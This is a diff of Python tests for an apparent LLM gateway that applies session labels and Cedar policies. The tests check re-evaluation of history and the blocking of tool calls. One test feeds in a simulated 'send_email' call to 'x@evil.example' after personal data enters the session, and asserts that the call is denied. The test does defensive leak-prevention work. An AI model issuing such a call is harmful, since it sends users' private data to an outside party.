@@ -155,10 +155,22 @@ async def test_labels_hold_for_covered_history(serve: Any, bundle_copy: Path) ->
     assert "untrusted:web" in output["session_labels_before"]
 
 
-async def test_new_labels_make_history_checked_again_once(serve: Any) -> None:
-    """When the session's labels change, old messages are checked again under the new labels,
-    once; afterwards they are covered again."""
-    s = await serve()
+def labels_gate_model_requests(path: Path) -> Path:
+    """A policy on model requests that tests `pii`: then input decisions depend on that label."""
+    policy = (
+        '\n@id("pii-and-codename-stay-home")\n'
+        'forbid (principal, action == Action::"llm.request", resource)\n'
+        'when { context.labels.contains("pii") && context.labels.contains("confidential") };\n'
+    )
+    with (path / "policies.cedar").open("a") as policies:
+        policies.write(policy)
+    return path
+
+
+async def test_new_labels_make_history_checked_again_once(serve: Any, bundle_copy: Path) -> None:
+    """When the session gains a label that the policies on model requests test, old messages
+    are checked again under the new labels, once; afterwards they are covered again."""
+    s = await serve(bundle=labels_gate_model_requests(bundle_copy))
     turns = [user("Where is my order?"), assistant("Which one?"), user("Mail me at ann@example.org"),
              assistant("Sure."), user("Thanks"), assistant("Bye."), user("Bye")]  # fmt: skip
     await post(s, turns[:1], **SESSION)
@@ -167,6 +179,27 @@ async def test_new_labels_make_history_checked_again_once(serve: Any) -> None:
     last = await post(s, turns[:7], **SESSION)
     assert [2] == [c["message"] for c in request_record(s, again)["covered"]]  # it saw that label
     assert [0, 1, 2, 3, 4] == [c["message"] for c in request_record(s, last)["covered"]]
+
+
+async def test_labels_only_tool_calls_test_do_not_make_history_checked_again(
+    serve: Any,
+) -> None:
+    """The example bundle tests `pii` only on tool calls: a turn that adds it leaves the
+    decisions on the messages before it standing (they could not differ), so the next turn
+    checks only what is new, and a tool call still sees the label."""
+    s = await serve()
+    turns = [user("Where is my order?"), assistant("Which one?"), user("Mail me at ann@example.org"),
+             assistant("Sure."), user('CALL send_email {"to": "x@evil.example", "subject": "s", "body": "b"}')]  # fmt: skip
+    await post(s, turns[:1], **SESSION)
+    await post(s, turns[:3], **SESSION)  # message 2 adds a PII label to the session
+    last = await post(s, turns, **SESSION)
+    assert [0, 1, 2] == [c["message"] for c in request_record(s, last)["covered"]]
+    checked = input_decisions(s, last)
+    assert 2 == len([d for d in checked if d["stage"] == "input"])
+    call = next(d for d in checked if d["stage"] == "tool_call")  # PII, external: denied
+    assert "pii" in call["session_labels_before"]
+    assert "block" == call["action"]
+    assert not last.json()["choices"][0]["message"].get("tool_calls")
 
 
 async def replica(
